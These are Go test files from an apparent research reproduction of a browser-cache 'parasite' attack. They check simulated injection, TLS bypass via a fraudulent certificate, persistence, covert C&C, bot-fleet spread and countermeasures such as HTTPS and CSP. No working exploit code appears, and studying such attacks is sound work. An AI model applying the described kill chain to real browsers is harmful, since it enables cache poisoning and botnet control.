	if len(page.Scripts) == 0 {
		t.Fatal("no scripts")
	}
}

func TestTLSBlocksInfection(t *testing.T) {
	// §V Discussion: HTTPS defeats the injection (no fraudulent cert).
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.Propagate = false
	s.SetTLS("somesite.com", true)
	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	for _, sc := range page.Scripts {
		if script.Infected(sc.Content) {
			t.Fatal("parasite delivered over TLS without a certificate")
		}
	}
	if s.Master.Stats().SealedSkipped == 0 {
		t.Fatal("master never saw sealed traffic")
	}
}

func TestFraudulentCertDefeatsTLS(t *testing.T) {
	s, err := NewScenario(Config{FraudulentCertHosts: []string{"somesite.com"}})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.Propagate = false
	s.SetTLS("somesite.com", true)
	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	infected := false
	for _, sc := range page.Scripts {
		if script.Infected(sc.Content) {
			infected = true
		}
	}
	if !infected {
		t.Fatal("fraudulent certificate did not enable TLS injection")
	}
	if s.Master.Stats().SealedDecrypted == 0 {
		t.Fatal("master never decrypted sealed traffic")
	}
}
