package core

import (
	"errors"
	"strings"
	"testing"

	"masterparasite/internal/httpsim"
)

// TestVhostSealerPairsRequestAndResponseKeys exercises the sealer unit
// directly: Open records which vhost key decrypted the in-flight
// request (lastTLSKey), and the very next Seal must use that same key.
// The scenario event loop is single-threaded, so serve() always runs
// between the Open and the Seal of one exchange — this test locks in
// that request/response pairing across alternating vhosts.
func TestVhostSealerPairsRequestAndResponseKeys(t *testing.T) {
	s, err := NewScenario(Config{Seed: 5})
	if err != nil {
		t.Fatal(err)
	}
	s.SetTLS("a-bank.com", true)
	s.SetTLS("b-shop.com", true)
	v := vhostSealer{s: s}

	for i, host := range []string{"a-bank.com", "b-shop.com", "a-bank.com", "b-shop.com"} {
		hostSealer := httpsim.XORSealer{Key: httpsim.HostKey(host)}
		plain, _, err := v.Open(hostSealer.Seal([]byte("GET / " + host)))
		if err != nil {
			t.Fatalf("exchange %d: open %s request: %v", i, host, err)
		}
		if string(plain) != "GET / "+host {
			t.Fatalf("exchange %d: plaintext = %q", i, plain)
		}
		// The response seal must pair with the request's vhost key.
		resp, _, err := hostSealer.Open(v.Seal([]byte("200 " + host)))
		if err != nil {
			t.Fatalf("exchange %d: response for %s not sealed with its key: %v", i, host, err)
		}
		if string(resp) != "200 "+host {
			t.Fatalf("exchange %d: response plaintext = %q", i, resp)
		}
		// And it must NOT open under the other vhost's key.
		other := map[string]string{"a-bank.com": "b-shop.com", "b-shop.com": "a-bank.com"}[host]
		if _, _, err := (httpsim.XORSealer{Key: httpsim.HostKey(other)}).Open(v.Seal([]byte("x"))); !errors.Is(err, httpsim.ErrSealCorrupt) {
			t.Fatalf("exchange %d: response opened under %s's key (err=%v)", i, other, err)
		}
	}

	// A frame sealed for a host the scenario does not serve over TLS
	// must be rejected, not silently matched to some other vhost.
	if _, _, err := v.Open((httpsim.XORSealer{Key: httpsim.HostKey("plain.com")}).Seal([]byte("GET /"))); err == nil {
		t.Fatal("request for a non-TLS vhost opened")
	}
}

// TestInterleavedTLSVhostsEndToEnd drives the same pairing through the
// full network path: two HTTPS vhosts visited alternately from the
// victim browser, every page forced to the network (no-store), each
// load returning that host's own script — which can only happen when
// every response on port 443 was sealed with the key of the vhost
// that the in-flight request was opened with.
func TestInterleavedTLSVhostsEndToEnd(t *testing.T) {
	s, err := NewScenario(Config{Seed: 9})
	if err != nil {
		t.Fatal(err)
	}
	for _, host := range []string{"a-bank.com", "b-shop.com"} {
		marker := strings.ReplaceAll(host, "-", "_")
		marker = strings.ReplaceAll(marker, ".", "_")
		s.AddPage(host, "/", `<html><body><script src="/app.js"></script></body></html>`,
			map[string]string{"Cache-Control": "no-store"})
		s.AddPage(host, "/app.js", "function "+marker+"(){}",
			map[string]string{"Cache-Control": "no-store", "Content-Type": "application/javascript"})
		s.SetTLS(host, true)
	}

	for round := 0; round < 3; round++ {
		for _, host := range []string{"a-bank.com", "b-shop.com"} {
			page, err := s.Visit(host, "/")
			if err != nil {
				t.Fatalf("round %d: visit %s: %v", round, host, err)
			}
			if len(page.Scripts) != 1 {
				t.Fatalf("round %d: %s loaded %d scripts", round, host, len(page.Scripts))
			}
			marker := strings.NewReplacer("-", "_", ".", "_").Replace(host)
			if !strings.Contains(string(page.Scripts[0].Content), marker) {
				t.Fatalf("round %d: %s served the wrong script: %q", round, host, page.Scripts[0].Content)
			}
		}
	}
}
