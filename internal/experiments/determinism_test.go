package experiments

import (
	"strings"
	"testing"

	"masterparasite/internal/artifact"
	"masterparasite/internal/browser"
	"masterparasite/internal/runner"
)

// regenerate renders the full deterministic artifact set (every table
// and figure except the wall-clock C&C throughput run) with the given
// worker count, at sizes small enough for the race-detector CI run. It
// returns the concatenated text rendering and the run manifest.
func regenerate(t *testing.T, workers int) (string, *artifact.Manifest) {
	t.Helper()
	pool := runner.New(workers)
	overrides := map[string]int{"sites": 400, "days": 20}
	renderer, err := artifact.RendererFor("text")
	if err != nil {
		t.Fatal(err)
	}
	manifest := artifact.NewManifest(renderer.Format(), pool.Workers())
	var all strings.Builder
	for _, spec := range artifact.Deterministic() {
		res, rendered, err := artifact.RunRendered(spec, pool, overrides, renderer)
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		all.Write(rendered)
		manifest.Add(spec, res, rendered)
	}
	return all.String(), manifest
}

// TestParallelRegenerationByteIdentical is the fleet engine's core
// guarantee: regenerating every deterministic artifact on 4 or 8
// workers produces output byte-identical to the sequential run — and
// the guarantee is checkable from the run manifests alone, whose
// per-artifact SHA-256 fingerprints must coincide.
func TestParallelRegenerationByteIdentical(t *testing.T) {
	if testing.Short() {
		t.Skip("regenerates the artifact set three times; run without -short")
	}
	sequential, seqManifest := regenerate(t, 1)
	if !strings.Contains(sequential, "Table I") || !strings.Contains(sequential, "countermeasures") {
		t.Fatalf("sequential regeneration incomplete:\n%.400s", sequential)
	}
	seqPrints := seqManifest.Fingerprints()
	if len(seqPrints) != len(artifact.Deterministic()) {
		t.Fatalf("manifest covers %d artifacts, want %d", len(seqPrints), len(artifact.Deterministic()))
	}
	for _, workers := range []int{4, 8} {
		parallel, parManifest := regenerate(t, workers)
		if parallel != sequential {
			t.Errorf("workers=%d: output differs from sequential run\nseq:\n%.600s\npar:\n%.600s",
				workers, sequential, parallel)
		}
		parPrints := parManifest.Fingerprints()
		for id, want := range seqPrints {
			if parPrints[id] != want {
				t.Errorf("workers=%d: manifest fingerprint for %s = %.12s, sequential %.12s",
					workers, id, parPrints[id], want)
			}
		}
	}
}

// TestFleetStressKillChains hammers the runner with many concurrent
// full kill-chain scenarios — the race detector's chance to catch any
// state shared between supposedly self-contained scenarios.
func TestFleetStressKillChains(t *testing.T) {
	var profiles []browser.Profile
	for _, p := range browser.TableIIBrowsers() {
		if p.RunsOn(browser.Win10) {
			profiles = append(profiles, p)
		}
	}
	rows, err := runner.Map(runner.New(8), make([]struct{}, 24), func(i int, _ struct{}) (TableIICell, error) {
		p := profiles[i%len(profiles)]
		ok, err := injectionSucceeds(p, browser.Win10)
		if err != nil {
			return TableIICell{}, err
		}
		return TableIICell{Browser: p.Name, OS: browser.Win10, Exists: true, Injected: ok}, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range rows {
		if !c.Injected {
			t.Errorf("kill chain %d (%s) failed under concurrency", i, c.Browser)
		}
	}
}
