package experiments

import (
	"strings"
	"testing"

	"masterparasite/internal/browser"
	"masterparasite/internal/runner"
)

// regenerate renders the full deterministic artefact set (every table
// and figure except the wall-clock C&C throughput run) with the given
// worker count, at sizes small enough for the race-detector CI run.
func regenerate(t *testing.T, workers int) string {
	t.Helper()
	results, err := Deterministic(runner.New(workers), 400, 20)
	if err != nil {
		t.Fatalf("workers=%d: %v", workers, err)
	}
	var b strings.Builder
	for _, r := range results {
		b.WriteString("== " + r.Title + " ==\n")
		b.WriteString(r.Text)
	}
	return b.String()
}

// TestParallelRegenerationByteIdentical is the fleet engine's core
// guarantee: regenerating every table and figure on 4 or 8 workers
// produces output byte-identical to the sequential run.
func TestParallelRegenerationByteIdentical(t *testing.T) {
	if testing.Short() {
		t.Skip("regenerates the artefact set three times; run without -short")
	}
	sequential := regenerate(t, 1)
	if !strings.Contains(sequential, "Table I") || !strings.Contains(sequential, "countermeasures") {
		t.Fatalf("sequential regeneration incomplete:\n%.400s", sequential)
	}
	for _, workers := range []int{4, 8} {
		parallel := regenerate(t, workers)
		if parallel != sequential {
			t.Errorf("workers=%d: output differs from sequential run\nseq:\n%.600s\npar:\n%.600s",
				workers, sequential, parallel)
		}
	}
}

// TestFleetStressKillChains hammers the runner with many concurrent
// full kill-chain scenarios — the race detector's chance to catch any
// state shared between supposedly self-contained scenarios.
func TestFleetStressKillChains(t *testing.T) {
	var profiles []browser.Profile
	for _, p := range browser.TableIIBrowsers() {
		if p.RunsOn(browser.Win10) {
			profiles = append(profiles, p)
		}
	}
	rows, err := runner.Map(runner.New(8), make([]struct{}, 24), func(i int, _ struct{}) (TableIICell, error) {
		p := profiles[i%len(profiles)]
		ok, err := injectionSucceeds(p, browser.Win10)
		if err != nil {
			return TableIICell{}, err
		}
		return TableIICell{Browser: p.Name, OS: browser.Win10, Exists: true, Injected: ok}, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range rows {
		if !c.Injected {
			t.Errorf("kill chain %d (%s) failed under concurrency", i, c.Browser)
		}
	}
}
