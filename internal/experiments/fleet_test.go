package experiments

import (
	"strings"
	"testing"

	"masterparasite/internal/artifact"
	"masterparasite/internal/core"
	"masterparasite/internal/runner"
)

// fleetManifest regenerates the two fleet artifacts at the given
// worker count and returns the run manifest plus the concatenated
// rendered bytes.
func fleetManifest(t *testing.T, workers int, overrides map[string]int) (*artifact.Manifest, string) {
	t.Helper()
	pool := runner.New(workers)
	renderer, err := artifact.RendererFor("text")
	if err != nil {
		t.Fatal(err)
	}
	manifest := artifact.NewManifest(renderer.Format(), pool.Workers())
	var all strings.Builder
	for _, id := range []string{"fleet/infection-curve", "fleet/cnc-fanout"} {
		spec, ok := artifact.Get(id)
		if !ok {
			t.Fatalf("artifact %q not registered", id)
		}
		res, rendered, err := artifact.RunRendered(spec, pool, overrides, renderer)
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		all.Write(rendered)
		manifest.Add(spec, res, rendered)
	}
	return manifest, all.String()
}

// assertFleetManifestsIdentical renders both fleet artifacts at 1, 4,
// and 8 workers and requires byte-identical output and matching
// manifest SHA-256 fingerprints across all three runs.
func assertFleetManifestsIdentical(t *testing.T, overrides map[string]int) {
	t.Helper()
	seqManifest, sequential := fleetManifest(t, 1, overrides)
	if !strings.Contains(sequential, "infection curve") || !strings.Contains(sequential, "fan-out") {
		t.Fatalf("sequential fleet rendering incomplete:\n%.400s", sequential)
	}
	seqPrints := seqManifest.Fingerprints()
	for _, workers := range []int{4, 8} {
		parManifest, parallel := fleetManifest(t, workers, overrides)
		if parallel != sequential {
			t.Errorf("workers=%d: fleet output differs from sequential\nseq:\n%.600s\npar:\n%.600s",
				workers, sequential, parallel)
		}
		for id, want := range seqPrints {
			if got := parManifest.Fingerprints()[id]; got != want {
				t.Errorf("workers=%d: %s fingerprint %.12s, sequential %.12s", workers, id, got, want)
			}
		}
	}
}

// TestFleetSmoke is the `make fleet-smoke` gate: a small sharded fleet
// rendered on a parallel pool must fingerprint identically to the
// single-shard-worker (sequential) run. Small enough for every CI tier.
func TestFleetSmoke(t *testing.T) {
	assertFleetManifestsIdentical(t, map[string]int{"lans": 4, "bots": 50})
}

// TestFleetHundredKBotsByteIdentical is the acceptance criterion at
// full scale: a 10⁵-bot fleet (64 LANs × 1563 bots = 100 032) runs to
// completion and renders fleet/infection-curve and fleet/cnc-fanout
// byte-identically at -parallel 1, 4, and 8, checkable from the
// manifest fingerprints alone.
func TestFleetHundredKBotsByteIdentical(t *testing.T) {
	if testing.Short() {
		t.Skip("drains ~10⁵-bot fleets eight times; run without -short (tier-1 covers it)")
	}
	assertFleetManifestsIdentical(t, map[string]int{"lans": 64, "bots": 1563})
}

// TestFleetMillionBots is the soak tier of the scale story: one 10⁶-bot
// fleet (64 LANs × 15625 bots) drained to completion on 8 shard
// workers, with the infection reaching the expected giant-component
// share and every registered bot commanded.
func TestFleetMillionBots(t *testing.T) {
	if testing.Short() {
		t.Skip("10⁶-bot fleet; run without -short")
	}
	fleet, err := core.NewFleet(core.FleetConfig{LANs: 64, BotsPerLAN: 15625, Seed: 1_000_003})
	if err != nil {
		t.Fatal(err)
	}
	res, err := fleet.Run(8)
	if err != nil {
		t.Fatal(err)
	}
	if res.Bots != 1_000_000 {
		t.Fatalf("fleet holds %d bots, want 10⁶", res.Bots)
	}
	// Fanout-3 gossip reaches the ~94% giant component of the random
	// contact graph; far less means the spread collapsed.
	if res.Infected < res.Bots*85/100 {
		t.Fatalf("only %d/%d bots infected", res.Infected, res.Bots)
	}
	if res.Registered != res.Infected || res.Commanded != res.Infected {
		t.Fatalf("C&C round trips incomplete: infected=%d registered=%d commanded=%d",
			res.Infected, res.Registered, res.Commanded)
	}
	st := fleet.Fabric().Stats()
	if st.Events < 10_000_000 {
		t.Fatalf("million-bot fleet executed only %d events", st.Events)
	}
	t.Logf("10⁶ bots: %d events, %d windows, %d boundary frames, critical path %d (%.1fx slack)",
		st.Events, st.Windows, st.Boundary, st.CriticalPath, float64(st.Events)/float64(st.CriticalPath))
}
