package experiments

import (
	"strings"
	"testing"

	"masterparasite/internal/artifact"
	"masterparasite/internal/netsim"
	"masterparasite/internal/runner"
)

// runConditions executes the conditions spec at CI-sized params.
func runConditions(t *testing.T, workers int) ConditionsData {
	t.Helper()
	spec, ok := artifact.Get("conditions")
	if !ok {
		t.Fatal("conditions spec not registered")
	}
	env, err := spec.NewEnv(runner.New(workers), map[string]int{"attempts": 2, "payload": 8192})
	if err != nil {
		t.Fatal(err)
	}
	res, err := spec.Exec(env)
	if err != nil {
		t.Fatal(err)
	}
	data, ok := res.Dataset.(ConditionsData)
	if !ok {
		t.Fatalf("dataset type %T", res.Dataset)
	}
	return data
}

func TestConditionsMatrix(t *testing.T) {
	data := runConditions(t, 1)
	if len(data) != len(netsim.Profiles()) {
		t.Fatalf("%d rows, want %d", len(data), len(netsim.Profiles()))
	}
	byName := map[string]ConditionsRow{}
	for _, r := range data {
		byName[r.Profile] = r
	}
	clean := byName["clean"]
	if clean.InjectionWins != clean.Attempts {
		t.Errorf("clean link lost the injection race: %d/%d", clean.InjectionWins, clean.Attempts)
	}
	if !clean.Evicted || !clean.ChurnSurvived {
		t.Errorf("clean link: evicted=%v churn=%v, want both true", clean.Evicted, clean.ChurnSurvived)
	}
	if clean.GoodputKBs <= 0 || clean.LinkLost != 0 || clean.LinkDup != 0 {
		t.Errorf("clean link: goodput=%v lost=%d dup=%d", clean.GoodputKBs, clean.LinkLost, clean.LinkDup)
	}
	congested := byName["congested"]
	if congested.LinkLost == 0 {
		t.Errorf("congested link dropped nothing during the C&C transfer")
	}
	if congested.GoodputKBs >= clean.GoodputKBs {
		t.Errorf("congested goodput %.1f not below clean %.1f", congested.GoodputKBs, clean.GoodputKBs)
	}
}

// TestConditionsByteIdenticalAcrossWorkers is the artifact's own
// determinism check at CI size; the full-size sweep rides in
// TestParallelRegenerationByteIdentical with the rest of the registry.
func TestConditionsByteIdenticalAcrossWorkers(t *testing.T) {
	if testing.Short() {
		t.Skip("three regenerations; run without -short")
	}
	seq := runConditions(t, 1)
	for _, workers := range []int{4, 8} {
		par := runConditions(t, workers)
		for i := range seq {
			if par[i] != seq[i] {
				t.Fatalf("workers=%d row %d differs:\nseq %+v\npar %+v", workers, i, seq[i], par[i])
			}
		}
	}
}

// TestCNCDownstreamOverTenPercentLoss is the acceptance check for the
// covert channel under serious fault pressure: a full downstream
// exchange (meta probe + every sprite batch) must complete bit-exact
// over a link eating at least 10% of deliveries, carried entirely by
// tcpsim retransmission.
func TestCNCDownstreamOverTenPercentLoss(t *testing.T) {
	lp := netsim.LinkProfile{Name: "ten-pct", Loss: 0.10, Seed: 41}
	res, err := cncGoodput(lp, 16384, 7)
	if err != nil {
		t.Fatal(err)
	}
	if res.Lost == 0 {
		t.Fatal("link dropped nothing at 10% loss; test is vacuous")
	}
	if res.KBs <= 0 {
		t.Fatalf("C&C exchange failed over 10%% loss (lost %d frames)", res.Lost)
	}
}

// TestConditionsTextMentionsEveryProfile keeps the rendering honest.
func TestConditionsTextMentionsEveryProfile(t *testing.T) {
	spec, _ := artifact.Get("conditions")
	env, err := spec.NewEnv(runner.New(1), map[string]int{"attempts": 1, "payload": 4096})
	if err != nil {
		t.Fatal(err)
	}
	res, err := spec.Exec(env)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range netsim.ProfileNames() {
		if !strings.Contains(res.Text, name) {
			t.Errorf("rendering misses profile %s:\n%s", name, res.Text)
		}
	}
}

// soakCheck validates one soak report against the pool-balance and
// wraparound invariants.
func soakCheck(t *testing.T, rounds int, rep SoakReport) {
	t.Helper()
	if rep.Rounds != rounds || rep.BytesEchoed != rounds*soakRoundSize {
		t.Fatalf("soak stalled: %d/%d rounds, %d bytes echoed", rep.Rounds, rounds, rep.BytesEchoed)
	}
	if rep.FramesAcquired == 0 || rep.FramesAcquired != rep.FramesReleased {
		t.Fatalf("frame pool leaked: acquired %d, released %d", rep.FramesAcquired, rep.FramesReleased)
	}
	if !rep.WrapCrossed {
		t.Fatal("stream never crossed the 2^32 sequence wrap")
	}
}

// TestSoakSmoke is the -short tier (and `make soak-smoke`): a small
// horizon exercising the same wrap + fault + pool invariants.
func TestSoakSmoke(t *testing.T) {
	const rounds = 2000
	rep, err := RunSoak(rounds, 9)
	if err != nil {
		t.Fatal(err)
	}
	soakCheck(t, rounds, rep)
}

// TestSoakLongHorizon is the full soak: at least a million simulator
// events over the lossy, duplicating link, with the frame pool drained
// at exit — a per-event leak of even one frame would show up here.
func TestSoakLongHorizon(t *testing.T) {
	if testing.Short() {
		t.Skip("million-event soak; run without -short")
	}
	const rounds = 200_000
	rep, err := RunSoak(rounds, 9)
	if err != nil {
		t.Fatal(err)
	}
	soakCheck(t, rounds, rep)
	if rep.Events < 1_000_000 {
		t.Fatalf("soak processed %d events, want >= 1e6", rep.Events)
	}
}
