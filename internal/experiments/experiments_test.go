package experiments

import (
	"bytes"
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"masterparasite/internal/artifact"
	"masterparasite/internal/browser"
	"masterparasite/internal/crawler"
	"masterparasite/internal/runner"
)

// testRunner fans each experiment's scenario jobs out over all
// available cores; results are deterministic at any worker count.
func testRunner() *runner.Runner { return runner.New(0) }

// runArtifact executes one registered artifact with the given param
// overrides and asserts the registry contract on the way: identity is
// stamped, and the typed dataset survives a JSON round trip.
func runArtifact(t *testing.T, id string, overrides map[string]int) *artifact.Result {
	t.Helper()
	spec, ok := artifact.Get(id)
	if !ok {
		t.Fatalf("artifact %q not registered", id)
	}
	env, err := spec.NewEnv(testRunner(), overrides)
	if err != nil {
		t.Fatal(err)
	}
	res, err := spec.Exec(env)
	if err != nil {
		t.Fatal(err)
	}
	if res.ID != id || res.Title != spec.Title || res.Dataset == nil {
		t.Fatalf("identity not stamped: %+v", res)
	}
	assertDatasetRoundTrips(t, res)
	return res
}

// assertDatasetRoundTrips marshals the typed dataset, unmarshals it
// into a fresh instance of the same concrete type, and re-marshals —
// the `-format json` output must round-trip losslessly.
func assertDatasetRoundTrips(t *testing.T, res *artifact.Result) {
	t.Helper()
	first, err := json.Marshal(res.Dataset)
	if err != nil {
		t.Fatalf("%s: dataset does not marshal: %v", res.ID, err)
	}
	fresh := reflect.New(reflect.TypeOf(res.Dataset))
	if err := json.Unmarshal(first, fresh.Interface()); err != nil {
		t.Fatalf("%s: dataset does not unmarshal into %T: %v", res.ID, res.Dataset, err)
	}
	second, err := json.Marshal(fresh.Elem().Interface())
	if err != nil {
		t.Fatalf("%s: re-marshal: %v", res.ID, err)
	}
	if !bytes.Equal(first, second) {
		t.Fatalf("%s: dataset JSON round trip lossy:\nfirst:  %.200s\nsecond: %.200s", res.ID, first, second)
	}
}

func TestRegistryListsAllArtifacts(t *testing.T) {
	want := []string{"table1", "table2", "table3", "table4", "table5",
		"fig3", "fig5", "cnc", "flows", "countermeasures", "replay", "conditions",
		"fleet/infection-curve", "fleet/cnc-fanout"}
	got := artifact.IDs()
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("registry order = %v, want %v", got, want)
	}
	var det []string
	for _, s := range artifact.Deterministic() {
		det = append(det, s.ID)
	}
	if len(det) != 13 {
		t.Fatalf("deterministic artifacts = %v; only cnc measures wall-clock", det)
	}
}

func TestTableIMatchesPaperShape(t *testing.T) {
	r := runArtifact(t, "table1", nil)
	rows, ok := r.Dataset.(TableIData)
	if !ok || len(rows) != 6 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, row := range rows {
		if row.Browser == "IE" {
			if row.Eviction || row.InterDomain || !row.OOMKilled {
				t.Fatalf("IE row = %+v; paper: × × with memory DOS", row)
			}
			continue
		}
		if !row.Eviction || !row.InterDomain {
			t.Fatalf("%s row = %+v; paper: eviction and inter-domain work", row.Browser, row)
		}
	}
}

func TestTableIIMatchesPaperShape(t *testing.T) {
	r := runArtifact(t, "table2", nil)
	cells, ok := r.Dataset.(TableIIData)
	if !ok || len(cells) != 30 {
		t.Fatalf("cells = %d, want 5 OSes × 6 browsers", len(cells))
	}
	existing, na := 0, 0
	for _, c := range cells {
		if !c.Exists {
			na++
			continue
		}
		existing++
		if !c.Injected {
			t.Fatalf("injection failed on %s/%s; paper: effective on every existing pair", c.Browser, c.OS)
		}
	}
	if existing != 20 || na != 10 {
		t.Fatalf("existing=%d na=%d; Table II has 20 supported pairs", existing, na)
	}
}

func TestTableIIIMatchesPaper(t *testing.T) {
	r := runArtifact(t, "table3", nil)
	rows, ok := r.Dataset.(TableIIIData)
	if !ok || len(rows) != 5 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, row := range rows {
		if row.Browser == "IE" {
			if row.SupportsCacheAPI {
				t.Fatal("IE must be n/a (no Cache API)")
			}
			continue
		}
		if row.CtrlF5Removes || row.ClearCacheRemoves {
			t.Fatalf("%s: Ctrl+F5/clear-cache removed the parasite; paper: ×", row.Browser)
		}
		if !row.CookiesRemoves {
			t.Fatalf("%s: clear-cookies did not remove the parasite; paper: ✓", row.Browser)
		}
	}
}

func TestTableIVFunctionalInfection(t *testing.T) {
	r := runArtifact(t, "table4", nil)
	rows, ok := r.Dataset.(TableIVData)
	if !ok || len(rows) != 23 {
		t.Fatalf("rows = %d", len(rows))
	}
	sharedRuns := 0
	for _, row := range rows {
		if row.VictimsServed < 0 {
			continue
		}
		sharedRuns++
		if row.VictimsServed != 8 {
			t.Fatalf("%s served %d/8 victims; shared caches must infect all",
				row.Device.Instance, row.VictimsServed)
		}
	}
	if sharedRuns != 21 {
		t.Fatalf("functional runs = %d, want 21 shared devices", sharedRuns)
	}
}

func TestTableVAllAttacksSucceed(t *testing.T) {
	r := runArtifact(t, "table5", nil)
	rows, ok := r.Dataset.(TableVData)
	if !ok || len(rows) != 17 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, row := range rows {
		if !row.Succeeded {
			t.Errorf("%s failed: %s", row.Attack, row.Evidence)
		}
	}
}

func TestFigure3SmallRun(t *testing.T) {
	r := runArtifact(t, "fig3", map[string]int{"sites": 400, "days": 20})
	res, ok := r.Dataset.(*crawler.PersistencyResult)
	if !ok {
		t.Fatal("wrong dataset type")
	}
	p0, p20 := res.At(0), res.At(20)
	if p0.PersistentName < p20.PersistentName {
		t.Fatal("persistence increased over time")
	}
	if !strings.Contains(r.Text, "persistent(name)") {
		t.Fatal("rendering incomplete")
	}
	if r.Params["sites"] != 400 || r.Params["days"] != 20 || r.Params["seed"] != 1 {
		t.Fatalf("resolved params = %v", r.Params)
	}
}

func TestFigure5SmallRun(t *testing.T) {
	r := runArtifact(t, "fig5", map[string]int{"sites": 2000})
	s, ok := r.Dataset.(*crawler.HeaderSurvey)
	if !ok {
		t.Fatal("wrong dataset type")
	}
	if s.NoHTTPSShare < 15 || s.NoHTTPSShare > 27 {
		t.Fatalf("no-HTTPS share = %.1f", s.NoHTTPSShare)
	}
	if s.AnalyticsShare <= 0 {
		t.Fatalf("analytics share missing from the dataset: %.1f", s.AnalyticsShare)
	}
	if !strings.Contains(r.Text, "connect-src") {
		t.Fatal("rendering incomplete")
	}
}

func TestCNCThroughputShape(t *testing.T) {
	r := runArtifact(t, "cnc", map[string]int{"payload": 8 * 1024})
	rep, ok := r.Dataset.(CNCReport)
	if !ok {
		t.Fatal("wrong dataset type")
	}
	if rep.DownstreamLoopback <= 0 || rep.DownstreamRTTConc <= 0 ||
		rep.DownstreamRTTSeq <= 0 || rep.UpstreamThroughput <= 0 {
		t.Fatalf("rates: %+v", rep)
	}
	// The paper's 100 KB/s depends on concurrency: once the channel is
	// RTT-bound, parallel fetches must clearly beat sequential ones.
	// The race-detector CI run (-short -race) serializes goroutines and
	// flattens the wall-clock advantage, so it only requires a win at
	// all; the full run demands the 4× the paper's claim implies.
	ratio := 4.0
	if testing.Short() {
		ratio = 1.5
	}
	if rep.DownstreamRTTConc < ratio*rep.DownstreamRTTSeq {
		t.Fatalf("RTT-bound concurrent (%.0f B/s) not ≥%.1f× sequential (%.0f B/s)",
			rep.DownstreamRTTConc, ratio, rep.DownstreamRTTSeq)
	}
}

func TestCountermeasuresMatrix(t *testing.T) {
	r := runArtifact(t, "countermeasures", nil)
	rows, ok := r.Dataset.(CountermeasuresData)
	if !ok || len(rows) != 7 {
		t.Fatalf("rows = %d", len(rows))
	}
	byName := make(map[string]CountermeasureRow, len(rows))
	for _, row := range rows {
		byName[row.Defence] = row
	}
	base := byName["none (baseline)"]
	if !base.Infected || !base.Persisted || !base.CNCWorked || base.Propagated < 2 {
		t.Fatalf("baseline = %+v", base)
	}
	if tls := byName["HTTPS on target"]; tls.Infected || tls.Persisted || tls.CNCWorked {
		t.Fatalf("HTTPS row = %+v; must stop everything", tls)
	}
	if cert := byName["HTTPS + fraudulent cert"]; !cert.Infected || !cert.CNCWorked {
		t.Fatalf("fraudulent cert row = %+v; must restore the attack", cert)
	}
	if rq := byName["random query string on scripts"]; !rq.Infected || rq.Persisted {
		t.Fatalf("random-query row = %+v; infection transient, persistence gone", rq)
	}
	if csp := byName["strict CSP on pages"]; csp.Propagated != 1 || csp.CNCWorked {
		t.Fatalf("CSP row = %+v; propagation and C&C must be blocked", csp)
	}
	if lw := byName["last-wins reassembly (ablation)"]; !lw.Infected {
		t.Fatalf("last-wins row = %+v; race win still infects", lw)
	}
}

func TestMessageFlowsPhases(t *testing.T) {
	r := runArtifact(t, "flows", nil)
	for _, phase := range []string{"Fig. 1", "Fig. 2", "Fig. 4"} {
		if !strings.Contains(r.Text, phase) {
			t.Fatalf("missing phase %s", phase)
		}
	}
	// The infection phase must show attacker-box frames racing ahead.
	fig2 := r.Text[strings.Index(r.Text, "Fig. 2"):]
	if !strings.Contains(fig2, "attacker-box") {
		t.Fatal("no attacker frames in the infection flow")
	}
	// The dataset mirrors the text: three phases, each with traffic.
	phases, ok := r.Dataset.(FlowsData)
	if !ok || len(phases) != 3 {
		t.Fatalf("phases = %d", len(phases))
	}
	for _, p := range phases {
		if len(p.Events) == 0 {
			t.Fatalf("phase %q traced no frames", p.Name)
		}
	}
}

func TestScaleProfileKeepsRatio(t *testing.T) {
	p, err := browser.ProfileByName("IE")
	if err != nil {
		t.Fatal(err)
	}
	s := scaleProfile(p)
	if s.CacheSize <= 0 || s.MemoryLimit <= s.CacheSize/2 {
		t.Fatalf("scaled profile degenerate: %+v", s)
	}
	ratio := float64(p.MemoryLimit) / float64(p.CacheSize)
	sratio := float64(s.MemoryLimit) / float64(s.CacheSize)
	if ratio/sratio > 1.01 || sratio/ratio > 1.01 {
		t.Fatalf("scaling changed the memory/cache ratio: %f vs %f", ratio, sratio)
	}
}
