// Package experiments regenerates every table and figure of the paper's
// evaluation. Each experiment runs the real attack code paths against
// the simulated substrate and renders rows comparable to the published
// artefact.
//
// Every experiment is registered as an artifact.Spec in the
// internal/artifact registry (see specs.go for the index and the
// README's "Artifacts, formats, and the run manifest" section for the
// frontend contract): a stable ID, typed params with defaults and
// validation, and a typed, JSON-marshalable dataset behind the
// canonical text rendering. Frontends drive experiments exclusively
// through the registry.
//
// Every experiment is expressed as a batch of independent jobs — one
// scenario per table row, cell, or variant — submitted to a
// runner.Runner. Scenarios are self-contained (each job builds its own
// network, stacks, browser and C&C), and the runner assembles results
// in submission order, so regeneration is byte-identical at any worker
// count.
package experiments

import (
	"fmt"
	"strconv"
	"strings"

	"masterparasite/internal/artifact"
	"masterparasite/internal/attacker"
	"masterparasite/internal/browser"
	"masterparasite/internal/core"
	"masterparasite/internal/httpcache"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/parasite"
	"masterparasite/internal/runner"
	"masterparasite/internal/script"
)

func mark(ok bool) string {
	if ok {
		return "✓"
	}
	return "×"
}

func fbool(v bool) string { return strconv.FormatBool(v) }
func fint(v int) string   { return strconv.Itoa(v) }

// scaleProfile shrinks a browser profile's cache so the eviction flood is
// tractable: the paper floods hundreds of MiB; we keep the byte *ratio*
// between flood and budget while scaling both down ~2000×.
func scaleProfile(p browser.Profile) browser.Profile {
	const scale = 2048
	p.CacheSize /= scale
	if p.MemoryLimit > 0 {
		p.MemoryLimit /= scale
	}
	return p
}

